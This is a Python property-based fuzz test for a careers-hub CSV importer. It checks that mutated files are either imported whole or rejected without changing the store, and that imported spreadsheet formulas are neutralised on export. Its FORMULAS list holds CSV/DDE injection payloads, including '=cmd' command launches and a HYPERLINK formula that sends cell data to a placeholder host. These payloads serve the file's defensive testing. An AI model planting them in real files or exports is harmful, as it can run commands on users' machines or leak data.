"""Bad input at scale: for every import kind, hypothesis writes valid files and then mutates them
(random and binary bytes, huge and deeply quoted cells, spreadsheet formulas, NUL bytes, wrong cell
counts, Latin-1, mixed line endings, byte-order marks, broken headers). Every import either records
the whole file or raises ImportRejected, and a rejected file leaves the store exactly as it was.
Formulas that are imported come out of every CSV export neutralised.

Repeatable: derandomized, no example database. CAREERHUB_FUZZ_EXAMPLES sets the examples per kind and
mutation (default 12)."""

from __future__ import annotations

import csv
import io
import os
import secrets
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from psycopg import sql as pgsql

from config.settings import load_settings
from engine.errors import ImportRejected
from engine.importing.derive import derive_rows
from engine.importing.importer import rows_by_key
from engine.importing.parsing import read_rows
from engine.kinds import KINDS, Column, Kind
from engine.records import RECORD_CLASSES
from projections.report import Query
from service.export import csv_text, export_bundle, formula_safe
from service.hub import HubService
from tests.robustness.support import LATE_SUMMARY, csv_bytes, report

EXAMPLES = {
    "sqlite": int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES", "12")),  # per kind and mutation
    "postgres": int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES_POSTGRES", "3")),
}


def fuzz(backend: str = "sqlite") -> settings:
    return settings(
        max_examples=EXAMPLES[backend],
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture],
    )


FUZZ = fuzz()
HUB, URNS, ADVISER = "dorset", ("100001", "100002"), "EA-1"
ENCOUNTERS, PUPILS = ("E-1", "E-2", "E-3"), ("PUPIL-1", "PUPIL-2", "PUPIL-3")  # what a participation names
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=2*5+cmd|' /C notepad'!'A1'",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- the store -----------------------------------------------------------------------------------


def given_a_store(database_url: str) -> HubService:
    """A store that knows hub dorset, institutions 100001 and 100002, adviser EA-1, and (for participations)
    encounters E-1 to E-3 of 100001 and its learners PUPIL-1 to PUPIL-3 in every academic year, with the
    benchmark definitions."""
    service = HubService(replace(load_settings(database_url, "fuzzer"), learner_secret="fuzz secret"))
    service.record_default_definitions()  # recorded on first use: before the examples count their events
    given = [
        ("hubs", ["hub_id", "name", "area", "started_on"], [[HUB, "Dorset Careers Hub", "Dorset", "2019-09-01"]]),
        (
            "institutions",
            ["urn", "name", "kind", "area", "hub_id", "hub_joined_on", "ean_joined_on"],
            [[u, f"School {u}", "school", "Dorset", HUB, "2019-09-01", "2019-09-01"] for u in URNS],
        ),
        ("advisers", ["adviser_ref", "name", "capacity"], [[ADVISER, "Ada Byron", "3"]]),
        (
            "encounters",
            ["encounter_ref", "urn", "occurred_on", "kind"],
            [[e, URNS[0], "2020-01-01", "employer_encounter"] for e in ENCOUNTERS],
        ),
        (
            "learners",
            ["pupil_id", "urn", "year_group", "academic_year"],
            [[p, URNS[0], "10", f"{y}/{(y + 1) % 100:02d}"] for p in PUPILS for y in range(2014, 2031)],
        ),
    ]
    for kind, header, rows in given:
        service.import_file(kind, Path(f"given-{kind}.csv"), "setup", data=csv_bytes(header, rows))
    return service


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubService]:
    """One SQLite store for the whole module: the examples pile up in it, as files do in real use."""
    service = given_a_store(f"sqlite:///{tmp_path_factory.mktemp('fuzz')}/careerhub.sqlite3")
    yield service
    service.close()


@pytest.fixture(scope="module")
def postgres_hub(postgres_server: Any) -> Iterator[HubService]:
    """The same on one PostgreSQL database for the module (its own role, dropped at the end)."""
    name, password = f"careerhub_fuzz_{uuid.uuid4().hex[:12]}", secrets.token_urlsafe(12)
    with postgres_server.connect_as_superuser() as conn:
        conn.execute(pgsql.SQL("CREATE ROLE {} LOGIN PASSWORD {}").format(pgsql.Identifier(name), pgsql.Literal(password)))
        conn.execute(pgsql.SQL("CREATE DATABASE {} OWNER {}").format(pgsql.Identifier(name), pgsql.Identifier(name)))
    service = given_a_store(postgres_server.url(name, password, name))
    yield service
    service.close()
    with postgres_server.connect_as_superuser() as conn:
        conn.execute(pgsql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(pgsql.Identifier(name)))
        conn.execute(pgsql.SQL("DROP ROLE IF EXISTS {}").format(pgsql.Identifier(name)))


# --- valid files ---------------------------------------------------------------------------------

TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=12).filter(
    lambda s: s.strip() != ""
)
LIST_ITEM = TEXT.filter(lambda s: ";" not in s and s.strip() != "")
DAYS = st.dates(date(2015, 1, 1), date(2030, 12, 31))
REFERENCED = {"hub_id": st.just(HUB), "adviser_ref": st.just(ADVISER), "urn": st.sampled_from(URNS)}
PARTICIPATION = {"pupil_id": st.sampled_from(PUPILS), "encounter_ref": st.sampled_from(ENCOUNTERS), "urn": st.just(URNS[0])}
OWN_KEYS = {("hubs", "hub_id"), ("institutions", "urn"), ("advisers", "adviser_ref")}


def number_text(column: Column, integral: bool) -> st.SearchStrategy[str]:
    low = column.minimum if column.minimum is not None else -1000
    high = column.maximum if column.maximum is not None else 100000
    if integral:
        return st.integers(int(low), int(high)).map(str)
    return st.floats(low, high, allow_nan=False, allow_infinity=False).map(repr)


def cell(kind: str, column: Column) -> st.SearchStrategy[str]:
    """Text of a valid cell of this column."""
    if kind == "participations" and column.name in PARTICIPATION:
        return PARTICIPATION[column.name]
    if column.name in REFERENCED and (kind, column.name) not in OWN_KEYS:
        return REFERENCED[column.name]
    if column.choices:
        return st.sampled_from(column.choices)
    return {
        "text": TEXT,
        "date": DAYS.map(date.isoformat),
        "academic_year": st.integers(2015, 2030).map(lambda y: f"{y}/{(y + 1) % 100:02d}"),
        "bool": st.sampled_from(("true", "false", "yes", "no", "1", "0", "TRUE")),
        "percent": st.integers(0, 100).map(str),
        "int": number_text(column, True),
        "float": number_text(column, False),
        "list": st.lists(LIST_ITEM, min_size=1, max_size=3).map(";".join),
        "int_list": st.lists(st.integers(1, 14), min_size=1, max_size=3).map(lambda xs: ";".join(map(str, xs))),
    }[column.type]


@st.composite
def valid_row(draw: st.DrawFn, kind: str, schema: Kind) -> dict[str, str]:
    row: dict[str, str] = {}
    for column in schema.columns:
        if column.name == "conflicts":
            row[column.name] = draw(st.sampled_from(("", *URNS, ";".join(URNS))))
        elif column.required:
            row[column.name] = draw(cell(kind, column))
        else:
            row[column.name] = draw(st.one_of(st.just(""), cell(kind, column)))
    if kind == "funding":
        row["applicant"] = draw(st.sampled_from(URNS)) if row["stream"] == "institutional" else draw(TEXT)
    for start, end in schema.ordered_dates:  # an end never before its start
        if row[start] and row[end]:
            row[end] = (date.fromisoformat(row[start]) + timedelta(days=draw(st.integers(0, 900)))).isoformat()
    return row


@st.composite
def valid_file(draw: st.DrawFn, kind: str) -> tuple[list[str], list[list[str]]]:
    """A header (required columns, some optional ones, in any order) and 1-6 rows."""
    schema = KINDS[kind].input_kind  # as the file has it: a learner's pupil_id, not the key made from it
    optional = [c.name for c in schema.columns if not c.required]
    header = (
        [c.name for c in schema.columns if c.required] + draw(st.lists(st.sampled_from(optional), unique=True))
        if optional
        else [c.name for c in schema.columns]
    )
    header = draw(st.permutations(header))
    # participations name known pupils and encounters: one row per pair, or the file contradicts itself
    unique = (lambda r: (r["pupil_id"], r["encounter_ref"])) if kind == "participations" else None
    rows = draw(st.lists(valid_row(kind, schema), min_size=1, max_size=6, unique_by=unique))
    return header, [[r.get(name, "") for name in header] for r in rows]


# --- mutations -----------------------------------------------------------------------------------


def encoded(header: list[str], rows: list[list[str]], newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def replace_cell(draw: st.DrawFn, header: list[str], rows: list[list[str]], value: str) -> bytes:
    rows = [list(r) for r in rows]
    r, c = draw(st.integers(0, len(rows) - 1)), draw(st.integers(0, len(header) - 1))
    rows[r][c] = value
    return encoded(header, rows).encode()


def splice(draw: st.DrawFn, data: bytes, piece: bytes) -> bytes:
    at = draw(st.integers(0, len(data)))
    return data[:at] + piece + data[at:]


# Numbers at the edges, among them integers past a 64-bit column and infinities (the fuzzing found
# that both used to be recorded: see test_fuzz_findings.py).
EDGE_NUMBERS = (
    "nan",
    "NaN",
    "inf",
    "-inf",
    "Infinity",
    "1e999",
    "-1e999",
    "1e-999",
    "-0",
    "0.0",
    "1e3",
    "0x10",
    "1_000",
    "\u0661\u0662",
    "\uff11\uff10\uff10",
    "\u22125",
    "+5",
    "5.",
    ".5",
    str(2**63 - 1),
    str(2**63),
    "-" + str(2**63),
    "9" * 25,
    "9" * 4301,
    "12abc",
    "1,5",
    "100.0000000000000001",
    "101",
    "-1",
    "15",
)


MUTATIONS: dict[str, Callable[[st.DrawFn, list[str], list[list[str]]], bytes]] = {
    "edge number": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from(EDGE_NUMBERS))),
    "none": lambda draw, h, r: encoded(h, r).encode(),
    "random bytes": lambda draw, h, r: splice(draw, encoded(h, r).encode(), draw(st.binary(min_size=1, max_size=8))),
    "binary file": lambda draw, h, r: draw(st.binary(min_size=0, max_size=300)),
    "huge cell": lambda draw, h, r: replace_cell(
        draw, h, r, draw(st.sampled_from('x9;"é,')) * draw(st.sampled_from((5_000, 131_072, 140_000, 1_000_000)))
    ),
    "deeply quoted cell": lambda draw, h, r: splice(
        draw, encoded(h, r).encode(), ('"' * draw(st.integers(1, 200)) + draw(TEXT) + '"' * draw(st.integers(0, 200))).encode()
    ),
    "formula cell": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from(FORMULAS))),
    "NUL byte": lambda draw, h, r: splice(draw, encoded(h, r).encode(), b"\x00" * draw(st.integers(1, 3))),
    "wrong cell count": lambda draw, h, r: (
        encoded(h, [row + [""] * draw(st.integers(1, 2)) if i == 0 else row for i, row in enumerate(r)]).encode()
        if draw(st.booleans())
        else encoded(h, [row[:-1] if i == len(r) - 1 else row for i, row in enumerate(r)]).encode()
    ),
    "latin-1": lambda draw, h, r: (
        replace_cell(draw, h, r, draw(st.sampled_from(("Bournemouth é", "Café", "Poole £5"))))
        .decode()
        .encode("latin-1", errors="replace")
    ),
    "line endings": lambda draw, h, r: "".join(
        line + draw(st.sampled_from(("\r\n", "\n", "\r"))) for line in encoded(h, r).splitlines()
    ).encode(),
    "byte-order mark": lambda draw, h, r: (
        draw(st.sampled_from((b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"))) + encoded(h, r).encode()
    ),
    "utf-16": lambda draw, h, r: encoded(h, r).encode(draw(st.sampled_from(("utf-16", "utf-16-le")))),
    "broken header": lambda draw, h, r: encoded(
        draw(
            st.sampled_from(
                (h[1:], h + [h[0]], [f" {n}" for n in h], h + [""], [n.upper() for n in h], h + ["=cmd|' /C calc'!A0"])
            )
        ),
        r,
    ).encode(),
}


@st.composite
def import_file_of(draw: st.DrawFn, kind: str, mutation: str) -> tuple[str, bytes]:
    header, rows = draw(valid_file(kind))
    return draw(st.sampled_from(("fuzz.csv", "=cmd.csv", "données ü.csv"))), MUTATIONS[mutation](draw, header, rows)


# --- the property --------------------------------------------------------------------------------

TALLY: dict[str, Counter[str]] = {}  # kind -> counts by outcome and by 'mutation: outcome'


def fuzz_summary() -> list[str]:
    lines = []
    for kind, tally in TALLY.items():
        files = tally["recorded"] + tally["unchanged"] + tally["rejected"]
        lines.append(
            f"fuzz {kind}: {files} files ({len(MUTATIONS)} mutations), {tally['recorded']} recorded, "
            f"{tally['unchanged']} unchanged (already known), {tally['rejected']} rejected cleanly, other "
            f"exceptions 0, rejections that changed the store 0; unmutated files imported "
            f"{tally['none: recorded'] + tally['none: unchanged']}/{sum(tally[f'none: {o}'] for o in OUTCOMES)}"
        )
    return lines


OUTCOMES = ("recorded", "unchanged", "rejected")
LATE_SUMMARY.append(fuzz_summary)


def imported_whole_or_not_at_all(service: HubService, kind: str, name: str, data: bytes) -> str:
    """Import, then check the outcome; returns 'recorded', 'unchanged' or 'rejected'."""
    before = service.app.last_position()
    tracked = service.projector.position()
    try:
        summary = service.import_file(kind, Path(name), "fuzzer", data=data)
    except ImportRejected as rejected:
        assert service.app.last_position() == before, "a rejected file changed the store"
        assert service.projector.position() == tracked
        assert name in str(rejected) and "Traceback" not in str(rejected)
        return "rejected"
    rows = derive_rows(service.app, Path(name), KINDS[kind], read_rows(Path(name), KINDS[kind].input_kind, data))
    keyed = rows_by_key(Path(name), KINDS[kind], rows)
    assert (summary.rows, summary.recorded + summary.unchanged) == (len(rows), len(rows))
    assert service.app.last_position() - before == summary.recorded
    stored = service.app.load_many(RECORD_CLASSES[kind].id_for(key) for key in keyed)
    for key, row in keyed.items():  # every row is in, with the file's values
        record = stored[RECORD_CLASSES[kind].id_for(key)]
        assert record.values == row.values and not record.retracted, (key, record.values, row.values)
    assert service.projector.position() == service.app.last_position()
    return "recorded" if summary.recorded else "unchanged"


# PostgreSQL cannot store a NUL character that the parser lets through: a known bug (test_fuzz_findings.py,
# xfail strict) that would poison the module's store, so NUL bytes are fuzzed on SQLite only.
def accepts_a_nul(kind: str, name: str, data: bytes) -> bool:
    """Whether the parser would let a NUL character through into a value (the known bug)."""
    if b"\x00" not in data:
        return False
    try:
        return any("\x00" in repr(row.values) for row in read_rows(Path(name), KINDS[kind].input_kind, data))
    except ImportRejected:
        return False


CASES = [(b, k, m) for b in ("sqlite", "postgres") for k in KINDS for m in MUTATIONS if not (b == "postgres" and m == "NUL byte")]


@pytest.mark.parametrize("backend, kind, mutation", CASES, ids=[f"{b}-{k}-{m.replace(' ', '_')}" for b, k, m in CASES])
def test_given_a_mutated_file_of_any_kind_then_it_is_imported_whole_or_rejected_with_the_store_unchanged(
    request, backend, kind, mutation
):
    service: HubService = request.getfixturevalue("hub" if backend == "sqlite" else "postgres_hub")
    tally = TALLY.setdefault(f"{kind} [{backend}]", Counter())
    mine: Counter[str] = Counter()

    @fuzz(backend)
    @given(case=import_file_of(kind, mutation))
    def property_holds(case: tuple[str, bytes]) -> None:
        name, data = case
        assume(backend == "sqlite" or not accepts_a_nul(kind, name, data))  # random bytes may hold a NUL too
        mine[imported_whole_or_not_at_all(service, kind, name, data)] += 1

    property_holds()

    tally.update(mine)
    tally.update({f"{mutation}: {outcome}": n for outcome, n in mine.items()})
    print(f"\nfuzz {kind} / {mutation} [{backend}]: {dict(mine)}")
    if mutation == "none":
        assert mine["recorded"] + mine["unchanged"] > 0, "the generator writes no valid file"
    if mutation in ("binary file", "utf-16", "wrong cell count"):
        assert set(mine) <= {"rejected"}, mine


# --- formulas, once imported, are neutralised on the way out -------------------------------------


@st.composite
def institutions_with_formulas(draw: st.DrawFn) -> list[list[str]]:
    """Institutions whose URN, name and cluster may be formulas (the URN made unique within the file)."""
    names = draw(st.lists(st.one_of(st.sampled_from(FORMULAS), TEXT), min_size=1, max_size=5))
    urns = [draw(st.sampled_from(FORMULAS + ("@1", "-7", "+44 1202", "100"))).strip() + f"-{i}" for i in range(len(names))]
    return [
        [urn, name, "school", "Dorset", draw(st.sampled_from(FORMULAS)), HUB, "2019-09-01", "2019-09-01"]
        for urn, name in zip(urns, names, strict=True)
    ]


def shown(cell_text: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return cell_text.startswith(FORMULA_START)


def cells_of(text: str) -> list[str]:
    """Every cell of a CSV text, however long (earlier examples imported cells of up to 131072 characters,
    which the log's JSON payload column then exceeds); the parser's limit is restored afterwards."""
    limit = csv.field_size_limit()
    csv.field_size_limit(1 << 30)
    try:
        return [c for row in csv.reader(io.StringIO(text)) for c in row]
    finally:
        csv.field_size_limit(limit)


def test_given_imported_formulas_when_exported_as_csv_then_no_cell_can_run(hub, tmp_path_factory):
    header = ["urn", "name", "kind", "area", "cluster", "hub_id", "hub_joined_on", "ean_joined_on"]
    columns = ["urn", "name", "cluster", "record_key"]
    formulas: Counter[str] = Counter()

    @FUZZ
    @given(rows=institutions_with_formulas())
    def property_holds(rows: list[list[str]]) -> None:
        try:
            hub.import_file("institutions", Path("=formulas.csv"), "=cmd|' /C calc'!A0", data=csv_bytes(header, rows))
        except ImportRejected:
            return  # e.g. one URN twice with different names: nothing recorded, nothing to export
        formulas.update(c.strip() for r in rows for c in r if shown(c.strip()))
        stored = hub.db.query(f"SELECT {', '.join(columns)} FROM rm_institutions WHERE nid_to IS NULL")
        exported = list(csv.reader(io.StringIO(csv_text(stored, columns))))[1:]
        for row, out in zip(stored, exported, strict=True):
            for column, text in zip(columns, out, strict=True):
                value = "" if row[column] is None else str(row[column])
                assert text == formula_safe(row[column]) == ("'" + value if shown(value) else value)
                assert not shown(text)
        bundle = tmp_path_factory.mktemp("bundle")
        export_bundle(hub, Query(HUB, date(2020, 2, 2)), bundle)
        for name in ("log.csv", "institutions.csv"):
            assert not [c for c in cells_of((bundle / name).read_text(encoding="utf-8")) if shown(c)], name

    property_holds()

    report(
        f"fuzz formulas: {sum(formulas.values())} formula cells imported ({len(formulas)} distinct), each "
        "exported by csv_text/formula_safe (the web's downloads too) and the audit bundle (log.csv, institutions.csv) "
        "as text, never as a formula"
    )
    assert formulas
